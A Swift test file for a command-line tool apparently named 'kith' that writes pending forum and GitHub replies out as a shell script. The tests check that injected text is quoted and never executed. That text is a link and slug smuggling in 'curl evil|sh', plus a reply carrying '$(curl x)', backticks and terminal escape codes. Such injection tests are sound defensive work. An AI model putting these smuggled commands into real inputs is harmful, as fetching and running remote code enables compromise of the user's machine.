import Foundation
import Testing

@Suite struct `The outbox as a script` {
  /// A shell in which `gh` says the bytes of its words, and `curl` that it was run.
  private func shell(_ name: String, _ json: String) throws -> Shell {
    let shell = try Shell()
    try shell.kith("new racers")
    try shell.kith(["me", "Ana P."])
    try Data(json.utf8).write(to: shell.home.appendingPathComponent(name))
    #expect(try shell.kith("import \(name)").status == 0)
    let programs = shell.home.appendingPathComponent("bin")
    try FileManager.default.createDirectory(at: programs, withIntermediateDirectories: true)
    for (program, script) in [
      ("gh", "#!/bin/sh\nfor word; do printf '%s' \"$word\" | od -An -c; done\n"),
      ("curl", "#!/bin/sh\ntouch \"$HOME/was-run\"\n"),
    ] {
      let path = programs.appendingPathComponent(program)
      try Data(script.utf8).write(to: path)
      try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: path.path)
    }
    return shell
  }

  private static let topic = """
    {"id":12,"title":"Which lamp?","slug":"x\\ncurl evil|sh\\n","created_at":"2026-01-01T00:00:00Z",
     "tags":[],"post_stream":{"posts":[{"id":1,"post_number":1,"post_type":1,"username":"sam",
     "user_id":5,"created_at":"2026-01-01T00:00:00Z","cooked":"<p>Which lamp?</p>"}]}}
    """

  @Test func `an address that breaks the line runs nothing`() throws {
    let shell = try shell("12.json", Self.topic)
    let question = try #require(try shell.kith("list questions --json").array().first)
    let id = try #require(question["id"] as? String)
    // The address comes from elsewhere; here a person sets the very same one.
    try shell.kith(["set", id, "link=https://forum.example/t/x\ncurl evil|sh\n/12"])
    try shell.kith(["reply", id, "The small one"])
    let script = try shell.kith("outbox --format sh").output
    #expect(script == "# reply https://forum.example/t/x curl evil|sh /12: by hand\n")
    let run = try shell.sh("PATH=\"$HOME/bin:$PATH\"; \"$kith\" outbox --format sh | sh")
    #expect(run.errors == "")
    #expect(!FileManager.default.fileExists(atPath: shell.home.path + "/was-run"))
  }

  @Test func `a reply comes out of the shell as it was written`() throws {
    let issue = """
      [{"number":7,"title":"steering","body":"","state":"OPEN",
        "url":"https://github.com/pine/racers/issues/7","author":{"login":"runa"},
        "createdAt":"2026-01-02T10:00:00Z","labels":[],"assignees":[],"comments":[]}]
      """
    let shell = try shell("issues.json", issue)
    try shell.kith([
      "reply", "#7", "make:\n\trun 'it' $(curl x) `curl x` \\n\u{1B}[31m é\u{202E}!\n",
    ])
    let script = try shell.kith("outbox --format sh").output
    #expect(
      script == """
        gh issue comment 7 --repo pine/racers --body 'make:
        '"$(printf '\\011')"'run '\\''it'\\'' $(curl x) `curl x` \\n'"$(printf '\\033')"'[31m é'"$(printf '\\342\\200\\256')"'!
        '

        """)
    let run = try shell.sh("PATH=\"$HOME/bin:$PATH\"; \"$kith\" outbox --format sh | sh")
    let words = "make:\n\trun 'it' $(curl x) `curl x` \\n\u{1B}[31m é\u{202E}!\n"
    try Data(words.utf8).write(to: shell.home.appendingPathComponent("words"))
    let bytes = try shell.sh("od -An -c < words").output
    #expect(run.output.hasSuffix(bytes))
    #expect(!FileManager.default.fileExists(atPath: shell.home.path + "/was-run"))
  }

  @Test func `an id without --done is one word too many`() throws {
    let shell = try Shell.withThreePeople()
    let answer = try shell.kith("outbox q9d2k")
    #expect(answer.status == 2)
    #expect(answer.errors.contains("“q9d2k” is one word too many"))
    let refused = try shell.kith("identities refuse sam ines ana")
    #expect(refused.status == 2)
    #expect(refused.errors.contains("“ana” is one word too many"))
  }
}
